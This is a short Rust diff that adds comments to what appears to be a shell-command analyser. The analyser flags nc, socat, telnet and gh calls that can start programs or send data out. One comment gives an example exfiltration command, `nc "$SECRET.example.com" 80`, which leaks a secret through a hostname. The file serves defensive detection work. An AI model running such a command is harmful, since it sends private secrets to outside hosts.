@@ -20,6 +20,7 @@ fn input(call: &Call) -> Option<Sent> {
 
 /// `nc host port`, `socat - TCP:host:port`, `telnet host port`
 pub(in super::super) fn connect(call: &Call, found: &mut Collector) {
+    // With these options, and with socat always, it may start a program.
     if call.has("e c exec sh-exec") || call.name == "socat" {
         found.opaque(OpaqueReason::Program, call.name);
     }
@@ -39,6 +40,7 @@ pub(in super::super) fn connect(call: &Call, found: &mut Collector) {
     let mut sends: Vec<Sent> = call
         .operands
         .iter()
+        // A host or port can carry data out: `nc "$SECRET.example.com" 80`.
         .filter(|word| word.text.is_none())
         .map(|word| Sent::Unknown(word.raw.clone()))
         .collect();
@@ -93,6 +95,7 @@ pub(in super::super) fn gh(call: &Call, found: &mut Collector) {
             found.opaque(OpaqueReason::Program, call.name);
         }
         ("api", _) => api(call, &mut sends),
+        // These stay on this machine, or send nothing of it.
         ("auth" | "alias" | "config" | "extension" | "completion" | "help" | "version" | "", _) => return,
         ("secret" | "variable", "set") => {
             sends.extend(call.values("b body").map(text));
